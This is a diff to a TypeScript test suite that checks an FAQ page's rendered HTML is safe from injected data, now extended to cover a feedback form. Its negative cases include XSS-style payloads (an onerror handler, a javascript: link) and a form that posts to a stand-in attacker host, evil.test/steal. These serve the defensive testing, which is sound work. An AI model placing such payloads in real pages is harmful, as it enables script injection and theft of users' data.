@@ -14,8 +14,11 @@ import { testApp } from '../helpers';
  * validation bug let `javascript:` URLs and unsafe ids through: the page must still be safe.
  */
 
-const TAGS = 'html|head|meta|title|style|body|main|nav|ol|li|article|h1|h2|img|div|p|ul|a|section';
-const ATTRIBUTES = new Set(['lang', 'charset', 'name', 'content', 'property', 'class', 'aria-label', 'src', 'alt', 'loading', 'href', 'rel', 'target']);
+const TAGS = 'html|head|meta|title|style|body|main|nav|ol|li|article|h1|h2|img|div|p|ul|a|section|form|button';
+const ATTRIBUTES = new Set([
+  'lang', 'charset', 'name', 'content', 'property', 'class', 'aria-label', 'src', 'alt', 'loading', 'href', 'rel', 'target',
+  'start', 'method', 'action', 'type', 'value',
+]);
 const TAG = new RegExp(`<(?:!doctype html|/?(?:${TAGS})((?:\\s+[a-z-]+="[^"<>]*")*))\\s*>`, 'y');
 
 /** Throws describing the first thing in `html` that data could have injected. */
@@ -28,6 +31,8 @@ function assertSafeHtml(html: string): void {
     for (const [, name, value] of (tag[1] ?? '').matchAll(/([a-z-]+)="([^"]*)"/g)) {
       if (!ATTRIBUTES.has(name!)) throw new Error(`unexpected attribute ${name} in ${tag[0]}`);
       if ((name === 'href' || name === 'src') && !/^https?:\/\//.test(value!)) throw new Error(`unsafe ${name}: ${value}`);
+      // the feedback form posts to this server's own path, never to another origin or scheme
+      if (name === 'action' && !/^\/faq\/[^/:]*\/feedback(\?[^:]*)?$/.test(value!)) throw new Error(`unsafe action: ${value}`);
     }
   }
   if (/javascript:/i.test([...body.matchAll(/(?:href|src)="([^"]*)"/g)].map((m) => m[1]).join(' '))) throw new Error('javascript: in a link');
@@ -75,6 +80,7 @@ describe('the answer page with hostile data', () => {
           related,
           pageUrl: `https://faq.example.com/faq/${encodeURIComponent(main.id)}`,
           pageUrlFor: (id) => `https://faq.example.com/faq/${encodeURIComponent(id)}`,
+          feedbackAction: `/faq/${encodeURIComponent(main.id)}/feedback`,
         });
         assertSafeHtml(html);
         expect(html).toContain(`<h1>${escapeHtml(main.question)}</h1>`);
@@ -108,6 +114,7 @@ describe('the answer page with hostile data', () => {
     expect(() => assertSafeHtml('<img src="x" onerror="alert(1)">')).toThrow(/unexpected attribute onerror|unsafe src/);
     expect(() => assertSafeHtml('<a href="javascript:alert(1)">x</a>')).toThrow(/unsafe href/);
     expect(() => assertSafeHtml('<p>a < b</p>')).toThrow(/unexpected "<"/);
+    expect(() => assertSafeHtml('<form method="post" action="https://evil.test/steal"></form>')).toThrow(/unsafe action/);
     expect(() => assertSafeHtml('<a href="https://x.test/" rel="noopener">ok</a>')).not.toThrow();
   });
 });
